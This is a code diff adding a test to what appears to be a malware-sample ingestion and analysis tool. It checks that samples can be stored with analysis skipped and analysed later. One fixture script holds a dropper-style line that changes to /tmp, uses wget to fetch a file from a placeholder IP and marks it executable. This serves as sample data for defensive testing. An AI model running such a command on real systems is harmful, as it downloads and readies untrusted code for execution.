@@ -134,3 +134,20 @@ def test_events_list_filters_and_rejects_bad_ip(tmp_path: Path) -> None:
     assert code == 0 and "203.0.113.5:6666" in out
     code, _ = cc(data, "events", "list", "--ip", "300.1.1.1/8")
     assert code == 2
+
+
+def test_ingest_analyzes_new_samples_unless_told_not_to(tmp_path: Path) -> None:
+    data = tmp_path / "data"
+    a, b = tmp_path / "a.sh", tmp_path / "b.sh"
+    a.write_text("#!/bin/sh\ncd /tmp; wget http://198.51.100.7/x; chmod +x x\n")
+    b.write_text("#!/bin/sh\necho hello\n")
+    code, out = cc(data, "ingest", str(a), "--no-analyze", "--json")
+    assert code == 0 and json.loads(out)["analysis"] is None
+    code, out = cc(data, "samples", "show", "--json",
+                   json.loads(cc(data, "samples", "list", "--json")[1])["samples"][0]["sha256"])
+    assert json.loads(out)["report"] is None
+    code, out = cc(data, "ingest", str(b), "--json")
+    analysis = json.loads(out)["analysis"]
+    assert analysis["analyzed"] == 2 and analysis["failed"] == 0  # a.sh was pending too
+    code, out = cc(data, "samples", "list", "--json")
+    assert {s["analysis_state"] for s in json.loads(out)["samples"]} == {"done"}
